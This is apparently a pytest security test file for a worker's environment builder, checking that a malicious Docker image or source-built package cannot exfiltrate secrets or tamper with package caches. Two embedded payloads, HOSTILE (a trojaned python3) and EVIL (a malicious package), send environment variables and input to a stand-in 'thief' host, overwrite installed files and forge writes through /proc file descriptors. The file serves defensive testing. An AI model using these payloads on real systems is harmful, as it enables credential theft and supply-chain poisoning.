"""What an image's or a package's author wrote gets no part in making environments: no secret, cache or network."""

from __future__ import annotations

import io
import tarfile
import uuid
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path

import attempts
import package_index
import pytest

from hivemind_worker.runtime.docker import docker_executor
from hivemind_worker.runtime.docker import engine as engines
from hivemind_worker.runtime.environments import answers
from hivemind_worker.runtime.environments import sources as sourcing
from hivemind_worker.tasks import outcome

SECRET = "s3cret-of-the-owner"
SHOW = "import hm_probe; print(hm_probe.VERSION)"

# In the place of python3: sends what it hears and sees to the thief, reaches for a port of the host, overwrites what
# was fetched and what it can reach of the environment, lies about itself, and then does what was asked of it.
HOSTILE = """#!/usr/bin/python3.11 -I
import os, select, socket, subprocess, sys, urllib.parse, urllib.request
seen = repr(dict(os.environ))
line = ""
if select.select([0], [], [], 0.5)[0] and sys.argv[-1:] != ["task"]:
    line = os.read(0, 65536).decode("utf-8", "replace")
for text in (seen, line):
    try:
        urllib.request.urlopen("http://%(thief)s/stolen?" + urllib.parse.quote(text), timeout=1)
    except OSError:
        pass
for top in ("/opt/hivemind", "/.hivemind"):
    for at, _, names in os.walk(top):
        for name in names:
            if name.endswith((".py", ".whl", ".pyc")):
                try:
                    with open(os.path.join(at, name), "w") as file:
                        file.write("VERSION = 'of the attacker'")
                except OSError:
                    pass
answer = subprocess.run(["/usr/bin/python3.11", *sys.argv[1:]], input=line.encode(), capture_output=True)
sys.stdout.buffer.write(answer.stdout)
sys.stderr.buffer.write(answer.stderr)
"""


@pytest.fixture
def index() -> Iterator[package_index.Index]:
    with package_index.serving() as made:
        yield made


@asynccontextmanager
async def image_with(url: str, base: str, files: Mapping[str, bytes], **config: object) -> AsyncIterator[str]:
    """An image made of another, some files and settings of its author's."""
    engine = engines.Engine(url)
    await engine.connect()
    name = f"test-{uuid.uuid4().hex[:12]}"
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for path, content in files.items():
            entry = tarfile.TarInfo(path)
            entry.size, entry.mode = len(content), 0o755
            tar.addfile(entry, io.BytesIO(content))
    try:
        container = await engine.create(name, {"Image": base, "Cmd": ["true"], **config})
        await engine.put_archive(container, "/", packed.getvalue())
        await engine.commit(container, name, "1", {})
        await engine.remove(container)
        yield f"{name}:1"
    finally:
        await engine.remove(name)
        await engine.remove_image(f"{name}:1")
        await engine.close()


@pytest.mark.docker
async def test_an_images_python_gets_no_password_no_network_and_no_package_of_others(
    docker_url: str, python_image: str, index: package_index.Index, tmp_path: Path
) -> None:
    index.credentials = f"reader:{SECRET}"
    index.offer("hm-probe", "1.0")
    sources = sourcing.Sources(index_url=f"http://{index.credentials}@127.0.0.1:{index.port}/simple")
    supply = docker_executor.Supply(sources, answers.Answers(tmp_path))
    with package_index.serving() as thief:
        address = f"{package_index.seen_from_containers(docker_url)}:{thief.port}"
        files = {"usr/bin/python3": (HOSTILE % {"thief": address}).encode()}
        async with (
            image_with(docker_url, python_image, files) as image,
            attempts.docker_bench(docker_url, python_image, tmp_path, supply=supply) as bench,
        ):
            evil = await bench.python(SHOW, image=image, requirements=("hm-probe",))
            good = await bench.python(SHOW, requirements=("hm-probe",))
    assert thief.asked == []
    assert SECRET not in evil.logs.text.decode() + evil.error
    assert (good.status, good.logs.text) == (outcome.Status.COMPLETED, b"1.0\n"), good.error


EVIL = """
import glob, urllib.request
def attempt(work):
    try:
        work()
    except Exception:
        pass
def forge(path):
    with open(path, "wb", buffering=0) as file:
        file.write(b'{"file": "hm_six-1.0-py3-none-any.whl", "size": 4}\\nevil{"pins": ["hm-six==1.0"]}\\n')
def plant(folder):
    with open(folder + "/hm_six.py", "w") as file:
        file.write("VERSION = 'of the attacker'")
attempt(lambda: urllib.request.urlopen("http://%(thief)s/stolen", timeout=1))
for path in glob.glob("/proc/*/fd/*"):
    attempt(lambda: %(forging)s and "/self/" not in path and forge(path))
for folder in glob.glob("/opt/hivemind/*/lib/*/site-packages") + glob.glob("/opt/hivemind/cache/*"):
    attempt(lambda: plant(folder))
"""


@pytest.mark.parametrize(
    ("driver", "forging"),
    [
        pytest.param("process", True, marks=pytest.mark.sandbox),
        pytest.param("process", False, marks=[pytest.mark.sandbox, pytest.mark.long]),
        pytest.param("docker", True, marks=[pytest.mark.docker, pytest.mark.long]),
    ],
)
async def test_a_build_from_source_speaks_for_itself_alone(
    request: pytest.FixtureRequest, index: package_index.Index, tmp_path: Path, driver: str, forging: bool
) -> None:
    show = "import hm_six; print(hm_six.VERSION)"
    with package_index.serving() as thief, package_index.open_folder() as cache:
        index.credentials = f"reader:{SECRET}"
        index.offer("hm-six", "1.0")
        host, url, image = "127.0.0.1", "", ""
        if driver == "docker":
            url, image = request.getfixturevalue("docker_url"), request.getfixturevalue("python_image")
            host = package_index.seen_from_containers(url)
        index.offer_source("hm-evil", "1.0", EVIL % {"thief": f"{host}:{thief.port}", "forging": forging})
        sources = sourcing.Sources(
            index_url=f"http://{index.credentials}@127.0.0.1:{index.port}/simple", source_builds=True
        )
        opened = (
            attempts.docker_bench(url, image, cache, sources)
            if driver == "docker"
            else attempts.process_bench(tmp_path, sources, cache)
        )
        async with opened as bench:
            evil = await bench.python(show, requirements=("hm-evil", "hm-six"))
            good = await bench.python(show, requirements=("hm-six",))
    assert thief.asked == []
    assert evil.reason in {None, outcome.Reason.DEPENDENCY_FAILED}
    assert b"attacker" not in evil.logs.text
    assert SECRET not in evil.error
    assert (good.error, good.logs.text) == ("", b"1.0\n")
